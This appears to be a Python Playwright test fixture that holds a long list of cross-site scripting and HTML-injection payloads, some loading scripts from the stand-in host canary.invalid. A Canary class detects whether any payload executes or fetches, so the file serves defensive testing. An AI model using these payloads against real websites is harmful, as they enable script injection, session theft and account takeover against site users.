"""Texts that try to become code in a page; each would call `canary` or fetch from `canary.invalid` if it ran."""

from __future__ import annotations

from urllib.parse import urlsplit

from playwright.sync_api import Page

PAYLOADS = (
    "<script>canary(1)</script>",
    "<SCRIPT SRC=//canary.invalid/x.js></SCRIPT>",
    "</script><script>canary(2)</script>",
    "</textarea><script>canary(3)</script>",
    "</title><script>canary(4)</script>",
    "--><script>canary(5)</script><!--",
    "<scr<script>ipt>canary(6)</scr</script>ipt>",
    "<script\x0c>canary(7)</script\x0c>",
    "<img src=x onerror=canary(8)>",
    "<img src=//canary.invalid/pixel.png>",
    "<img src=`x`onerror=canary(9)>",
    "<img/src/onerror=canary(10)>",
    '<img src="x" onerror="&#99;anary(11)">',
    '"><img src=x onerror=canary(12)>',
    "'><img src=x onerror=canary(13)>",
    '" onmouseover="canary(14)" autofocus onfocus="canary(15)',
    "' onfocus='canary(16)' autofocus tabindex=1 x='",
    "<svg onload=canary(17)>",
    "<svg><script>canary(18)</script></svg>",
    "<svg><animate onbegin=canary(19) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:canary(20)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary(21)>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.canary(22)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=canary(23)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=canary(24)>'>",
    "<iframe src=javascript:canary(25)></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.canary(26)>'></iframe>",
    "<object data=javascript:canary(27)></object>",
    "<embed src=javascript:canary(28)>",
    "<video><source onerror=canary(29)></video>",
    "<audio src=x onerror=canary(30)></audio>",
    "<details open ontoggle=canary(31)>x</details>",
    "<input autofocus onfocus=canary(32)>",
    "<select autofocus onfocus=canary(33)></select>",
    "<marquee onstart=canary(34)>x</marquee>",
    "<body onload=canary(35)>",
    "<form action=javascript:canary(36)><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:canary(37)'>",
    "<base href=//canary.invalid/>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<style>@import '//canary.invalid/x.css';</style>",
    "<style>*{background:url(//canary.invalid/bg)}</style>",
    "<div style='background:url(//canary.invalid/div)'>x</div>",
    "<template><img src=x onerror=canary(38)></template>",
    "<custom-element onpointerenter=canary(39)>x</custom-element>",
    "<a href='javascript:canary(40)'>haz clic</a>",
    "javascript:canary(41)",
    "java\tscript:canary(42)",
    "data:text/html,<script>canary(43)</script>",
    "vbscript:canary(44)",
    "http://javascript:canary(45)@canary.invalid/",
    'https://canary.invalid/"onmouseover="canary(46)',
    "https://canary.invalid/'><img src=x onerror=canary(47)>",
    "[x](javascript:canary(48))",
    "![x](//canary.invalid/md.png)",
    "${canary(49)} {{constructor.constructor('canary(50)')()}} {% raw %} <%= canary(51) %>",
    "{{ config }} {{ 7*7 }} #{7*7} ${7*7}",
    "\u202e<script>canary(52)</script>",
    "&lt;script&gt;canary(53)&lt;/script&gt;",
    "\uff1cscript\uff1ecanary(54)\uff1c/script\uff1e",
    "%3Cscript%3Ecanary(55)%3C/script%3E",
    "<b hx-get='//canary.invalid/hx' hx-trigger=load>x</b>",
    "<b hx-on::load='canary(56)' data-hx-on:click='canary(57)'>x</b>",
    "<comanda-chat data-server=//canary.invalid></comanda-chat>",
    # Tags in other spellings, unfinished, nested or from elsewhere.
    "<ScRiPt>canary(58)</sCrIpT>",
    "<script>canary(59)//",
    "<script >canary(60)</script >",
    "<script/x>canary(61)</script>",
    "<<script>canary(62)//<</script>",
    "<script type=module>canary(63)</script>",
    "<script type=text/plain>canary(64)</script>",
    "<script src=data:text/javascript,canary(65)></script>",
    "<script src='data:;base64,Y2FuYXJ5KDY2KQ=='></script>",
    "<script>eval(atob('Y2FuYXJ5KDY3KQ=='))</script>",
    "<script>setTimeout('canary(68)')</script>",
    "<script>`${canary(69)}`</script>",
    "<script>\\u0063anary(70)</script>",
    "<script nomodule>canary(71)</script>",
    "<script async src=//canary.invalid/a.js></script>",
    "</style><script>canary(72)</script>",
    "</select><script>canary(73)</script>",
    "</option></select><img src=x onerror=canary(74)>",
    "</noscript><script>canary(75)</script>",
    "</template><script>canary(76)</script>",
    "</svg><script>canary(77)</script>",
    "]]><script>canary(78)</script>",
    "<![CDATA[<script>canary(79)</script>]]>",
    "<!--><script>canary(80)</script>",
    "<!--[if gte IE 4]><script>canary(81)</script><![endif]-->",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>canary(82)</script>",
    # Out of an attribute, whatever it was quoted with.
    "'><script>canary(83)</script>",
    '"><script>canary(84)</script>',
    "`><script>canary(85)</script>",
    '"><svg/onload=canary(86)>',
    "'/><svg/onload=canary(87)>",
    '" autofocus onfocus=canary(88) x="',
    "x onfocus=canary(89) autofocus",
    '" onpointerover=canary(90) style="position:fixed;inset:0" x="',
    '" onanimationstart=canary(91) style="animation:x 1s" x="',
    '" accesskey=x onclick=canary(92) x="',
    '" hx-get="//canary.invalid/hx2" hx-trigger="load" x="',
    '" popover ontoggle=canary(93) x="',
    '" formaction=javascript:canary(94) x="',
    '" srcdoc="<script>parent.canary(95)</script>" x="',
    "&quot; onmouseover=&quot;canary(96)",
    "&#34; autofocus onfocus=canary(97) x=&#34;",
    '\\" autofocus onfocus=canary(98) x=\\"',
    # What runs by itself when it is parsed, loaded, focused or shown.
    "<img src=data:, onerror=canary(99)>",
    "<img srcset=x onerror=canary(100)>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=canary(101)>",
    "<picture><source srcset=//canary.invalid/p.png><img src=x></picture>",
    "<input type=image src=x onerror=canary(102)>",
    "<input onbeforematch=canary(103) hidden=until-found>",
    "<textarea autofocus onfocus=canary(104)></textarea>",
    "<button autofocus onfocus=canary(105)>x</button>",
    "<a href=x autofocus onfocus=canary(106)>x</a>",
    "<div contenteditable autofocus onfocus=canary(107)>x</div>",
    "<div onscrollend=canary(108) style=overflow:auto><br><br></div>",
    "<div popover onbeforetoggle=canary(109) id=p>x</div><button popovertarget=p>x</button>",
    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationend=canary(110)>x</b>",
    "<b style='transition:outline 1s' ontransitionend=canary(111) tabindex=1>x</b>",
    "<video autoplay src=x onerror=canary(112)></video>",
    "<video poster=//canary.invalid/poster.png></video>",
    "<track default src=//canary.invalid/t.vtt>",
    "<frameset onload=canary(113)>",
    "<iframe onload=canary(114)></iframe>",
    "<iframe src=//canary.invalid/frame></iframe>",
    "<object data=//canary.invalid/o.swf></object>",
    "<dialog open onclose=canary(115)><form method=dialog><button>x</button></form></dialog>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/away'>",
    "<link rel=prefetch href=//canary.invalid/prefetch>",
    "<link rel=icon href=//canary.invalid/icon>",
    "<body background=//canary.invalid/bg.png onpageshow=canary(116)>",
    # SVG and MathML, and markup that changes when it is parsed twice.
    "<svg><set onbegin=canary(117) attributeName=x></svg>",
    "<svg><image href=x onerror=canary(118) /></svg>",
    "<svg><image href=//canary.invalid/svg.png /></svg>",
    "<svg><style>@import '//canary.invalid/svg.css'</style></svg>",
    "<svg><script href=data:,canary(119) /></svg>",
    "<math href=javascript:canary(120)>x</math>",
    "<math><mi/xlink:href=javascript:canary(121)>x</math>",
    "<svg></p><style><a id='</style><img src=x onerror=canary(122)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary(123)>",
    # Addresses, templates and letters that look like others.
    "JaVaScRiPt:canary(124)",
    "javascript&colon;canary(125)",
    "https://canary.invalid/<script>canary(126)</script>",
    "<https://canary.invalid/|canary> [a]: javascript:canary(127)",
    "{{constructor.constructor('canary(128)')()}} [[${canary(129)}]] {%debug%}",
    "\u2039script\u203acanary(130)\u2039/script\u203a \ufe64script\ufe65canary(131)",
    "+ADw-script+AD4-canary(132)+ADw-/script+AD4-",
    "\u200b<scr\u00adipt>canary(133)</scr\u00adipt>",
)
assert len(set(PAYLOADS)) == len(PAYLOADS) == 150


class Canary:
    """Sits in `page` before it loads, and in every page after it; sings when any payload runs or fetches."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.sung: list[int] = []
        self.fetched: list[str] = []
        self.dialogs: list[str] = []
        self.violations: list[str] = []
        page.expose_function("canary", lambda number: self.sung.append(number))
        page.expose_function("violated", lambda what: self.violations.append(what))
        page.add_init_script(
            "addEventListener('securitypolicyviolation', event => violated(event.violatedDirective + event.blockedURI))"
        )
        page.on("request", lambda request: self._fetches(request.url))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))

    def _fetches(self, url: str) -> None:
        # What is searched for stands in our own addresses.
        if urlsplit(url).hostname == "canary.invalid":
            self.fetched.append(url)

    def assert_silent(self) -> None:
        # Errors of images and loads of frames come a moment later than the text.
        self.page.wait_for_timeout(300)
        assert self.sung == []
        assert self.fetched == []
        assert self.dialogs == []
        assert self.violations == []
